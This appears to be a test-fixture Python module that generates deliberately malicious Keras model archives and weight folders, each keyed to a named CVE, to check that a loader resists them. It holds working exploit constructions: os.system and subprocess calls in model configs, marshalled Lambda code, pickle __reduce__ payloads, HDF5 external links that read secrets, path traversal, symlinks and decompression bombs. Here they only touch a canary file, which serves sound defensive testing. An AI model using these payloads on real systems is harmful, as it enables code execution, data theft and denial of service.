"""Malicious models, written by hand: files model.keras of runs, and folders of weights.

`canary` is a file that must not come into being, `secret` one that must not be read.
"""

import base64
import io
import json
import marshal
import pickle
import stat
import zipfile
from pathlib import Path

import h5py
import numpy as np

SIZE = 8  # of pictures, in pixels
SECRET = "the-secret-of-this-machine"


def layer(kind, module="keras.layers", /, **config):
    """A part of a model, as Keras describes it."""
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def sequential(*layers):
    shape = [None, SIZE, SIZE, 3]
    first = layer("InputLayer", batch_shape=shape, dtype="float32", name="picture")
    last = [layer("Flatten", name="flat"), layer("Dense", name="out", units=2)]
    config = {"name": "model", "layers": [first, *layers, *last]}
    return {"module": "keras", "class_name": "Sequential", "config": config,
            "registered_name": None, "build_config": {"input_shape": shape}}  # fmt: skip


def functional(function, *arguments, **options):
    """A model whose only layer is a call of something else, as in CVE-2025-1550."""
    first = layer("InputLayer", batch_shape=[None, SIZE, SIZE, 3], dtype="float32", name="picture")
    first |= {"name": "picture", "inbound_nodes": []}
    call = {**function, "name": "call",
            "inbound_nodes": [{"args": list(arguments), "kwargs": options}]}  # fmt: skip
    ends = {"input_layers": [["picture", 0, 0]], "output_layers": [["call", 0, 0]]}
    config = {"name": "model", "layers": [first, call], **ends}
    return {"module": "keras.src.models.functional", "class_name": "Functional", "config": config,
            "registered_name": "Functional"}  # fmt: skip


def function(name, module):
    return {"module": "builtins", "class_name": "function", "config": name,
            "registered_name": "function"} | {"module": module}  # fmt: skip


def code(canary):
    """The body of a Lambda that writes a file."""
    source = f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]"
    marshalled = base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
    config = {"code": marshalled, "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": config | {"value": [marshalled, None, None]}}


def evil_lambda(canary):
    return layer("Lambda", name="evil", function=code(canary))


def hdf5(build=lambda file: None):
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.create_group("layers")
        build(file)
    return buffer.getvalue()


def weights(build=lambda group: None):
    """The weights of `sequential()`; `build` adds what they should not hold."""

    def fill(file):
        variables = file.create_group("layers/dense/vars")
        variables["0"] = np.zeros((SIZE * SIZE * 3, 2), "float32")
        variables["1"] = np.zeros(2, "float32")
        build(variables)

    return hdf5(fill)


def archive(members, compression=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression, compresslevel=1) as written:
        for name, content in members:
            written.writestr(name, content)
    return buffer.getvalue()


def keras_file(config=None, h5=None, *more, **options):
    config = json.dumps(sequential() if config is None else config)
    members = [("metadata.json", '{"keras_version": "3.15.1"}'), ("config.json", config)]
    return archive([*members, ("model.weights.h5", h5 or weights()), *more], **options)


def link(name):
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return info


def elsewhere(secret):
    """Ways in which an HDF5 file takes data from another file."""

    def external(group):
        del group["1"]
        group.create_dataset("1", (2,), "float32", external=[(str(secret), 0, 8)])

    def linked(group):
        del group["1"]
        group["1"] = h5py.ExternalLink(f"{secret}.h5", "/data")

    def virtual(group):
        del group["1"]
        layout = h5py.VirtualLayout((2,), "float32")
        layout[:] = h5py.VirtualSource(f"{secret}.h5", "data", (2,))
        group.create_virtual_dataset("1", layout)

    return {"external": external, "linked": linked, "virtual": virtual}


def gigantic(group):
    """0.9 GB of nothing in a kilobyte: below what Keras itself refuses."""
    del group["1"]
    group.create_dataset("1", (240_000_000,), "float32", chunks=(1_000_000,), compression="gzip")


class Pickled:
    def __init__(self, canary):
        self.canary = str(canary)

    def __reduce__(self):
        return open, (self.canary, "w")


def old_h5(canary):
    """A model in the format before `.keras`, which held code as well."""
    first = layer("InputLayer", batch_shape=[None, SIZE, SIZE, 3], dtype="float32", name="picture")
    evil = {"class_name": "Lambda", "config": {"name": "evil", "function": code(canary)}}
    config = {"name": "model", "layers": [first, evil]}

    def fill(file):
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": config})
        file.attrs["keras_version"] = "2.12.0"
        file.attrs["backend"] = "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"evil"])
        group.create_group("evil").attrs["weight_names"] = np.array([], "S1")

    return hdf5(fill)


def runs(canary, secret, outside, bomb=300 << 20):
    """Files named model.keras: for each attack its bytes.

    `bomb` is what the bombs unpack to, in bytes.
    """
    lambda_model = sequential(evil_lambda(canary))
    fetch = function("get_file", "keras.utils")
    tar = {"origin": f"file://{outside}/evil.tar", "fname": "evil.tar", "extract": True}
    tar |= {"cache_dir": str(outside / "cache")}
    unsafe = function("enable_unsafe_deserialization", "keras.config")
    path = str(secret)
    lookup = layer("StringLookup", name="words", vocabulary=path)
    pairs = layer("BytePairTokenizer", "keras_hub.tokenizers", name="pairs", vocabulary=path,
                  merges=path)  # fmt: skip
    words = layer("WordPieceTokenizer", "keras_hub.tokenizers", name="words", vocabulary=path)
    graph = layer("TFSMLayer", name="graph", filepath=str(outside / "saved_model"))
    torch = base64.b64encode(pickle.dumps(Pickled(canary))).decode()
    torch = layer("TorchModuleWrapper", "keras.src.utils.torch_utils", name="torch", module=torch)
    found = {
        "good": keras_file(),
        "CVE-2024-3660": keras_file(lambda_model),
        "CVE-2025-1550": keras_file(functional(function("system", "os"), f"touch {canary}")),
        "CVE-2025-1550-class": keras_file(
            functional(layer("Popen", "subprocess"), ["touch", str(canary)])
        ),
        "CVE-2025-8747": keras_file(functional(fetch, **tar | {"extract": False})),
        "CVE-2025-9905": old_h5(canary),
        "CVE-2025-9906": keras_file(sequential(functional(unsafe), evil_lambda(canary))),
        "CVE-2025-12058": keras_file(sequential(lookup)),
        "CVE-2025-12058-bytes": keras_file(sequential(pairs)),
        "CVE-2025-12058-words": keras_file(sequential(words)),
        "CVE-2025-12060": keras_file(functional(fetch, **tar)),
        "CVE-2026-0897": keras_file(None, weights(gigantic)),
        "CVE-2026-1462": keras_file(sequential(graph)),
        "CVE-2026-12479": keras_file(sequential(layer("Dense", name="../../up", units=2))),
        "CVE-2026-12481": keras_file(
            sequential(layer("TimeDistributed", name="in", layer=evil_lambda(canary)))
        ),
        "GHSA-hqp4-2352-xf5r": keras_file(
            None, None, ("assets/../../up", "x"), ("assets/a", "x")
        ),
        "torch": keras_file(sequential(torch)),
        "link": keras_file(None, None, (link("assets/out"), str(outside)), ("assets/out/up", "x")),
        "absolute": keras_file(None, None, (f"{outside}/up", "x")),
        "backslash": keras_file(None, None, ("assets\\..\\..\\up", "x")),
        "twice": archive([("config.json", json.dumps(sequential())),
                          ("config.json", json.dumps(lambda_model)),
                          ("model.weights.h5", weights())]),
        "nested": keras_file(None, None, ("assets/more.zip", archive([("../up", "x")]))),
        "pickle": pickle.dumps(Pickled(canary)),
        "zip_bomb": keras_file(None, None, ("assets/zeros", bytes(bomb)),
                               compression=zipfile.ZIP_DEFLATED),
        "json_bomb": archive([("config.json", b" " * bomb), ("model.weights.h5", weights())],
                             compression=zipfile.ZIP_DEFLATED),
        "deep_json": archive([("config.json", b"[" * 1_000_000), ("model.weights.h5", weights())]),
        "many_weights": keras_file(sequential(layer("Dense", name="wide", units=300_000_000))),
    }  # fmt: skip
    for name, build in elsewhere(secret).items():
        found[f"CVE-2026-1669-{name}"] = keras_file(None, weights(build))
    return found


def folders(canary, secret, outside):
    """Folders of weights: for each attack its files; a Path is what a link leads to."""
    vit = {"model_type": "vit", "hidden_size": 8, "num_hidden_layers": 1, "image_size": SIZE}
    resnet = {
        "input_conv_filters": [64], "input_conv_kernel_sizes": [3], "stackwise_num_filters": [64],
        "stackwise_num_blocks": [1], "stackwise_num_strides": [1], "block_type": "basic_block",
        "image_shape": [None, None, 3], "name": "backbone", "trainable": True,
    }  # fmt: skip

    def keras(**changed):
        return json.dumps({
            "module": "keras_hub.src.models.resnet.resnet_backbone", "class_name": "ResNetBackbone",
            "config": resnet | changed, "registered_name": "keras_hub>ResNetBackbone",
        })  # fmt: skip

    external = elsewhere(secret)["external"]
    index = {"metadata": {}, "weight_map": {"a": "../secret.safetensors"}}
    shards = {"metadata": {}, "weight_map": {"layers": [f"{secret}.weights.h5"]}}
    return {
        "pickled": {"config.json": json.dumps(vit), "pytorch_model.bin": pickle.dumps(
            Pickled(canary))},
        "auto_map": {"config.json": json.dumps(vit | {"auto_map": {"AutoModel": "evil.Model"}}),
                     "evil.py": f"open({str(canary)!r}, 'w')", "model.safetensors": b""},
        "linked": {"config.json": keras(), "model.weights.h5": secret},
        "index": {"config.json": json.dumps(vit), "model.safetensors.index.json":
                  json.dumps(index)},
        "shards": {"config.json": keras(), "model.weights.json": json.dumps(shards)},
        "external": {"config.json": keras(), "model.weights.h5": weights(external)},
        "gigantic": {"config.json": keras(), "model.weights.h5": weights(gigantic)},
        "lambda": {"config.json": keras(dtype=code(canary)), "model.weights.h5": weights()},
        "wide": {"config.json": keras(input_conv_filters=[200_000_000]),
                 "model.weights.h5": weights()},
        "no_json": {"config.json": "[" * 1_000_000, "model.weights.h5": weights()},
    }  # fmt: skip


def write(folder, files):
    folder.mkdir(parents=True)
    for name, content in files.items():
        if isinstance(content, Path):
            (folder / name).symlink_to(content)
        else:
            (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
    return folder
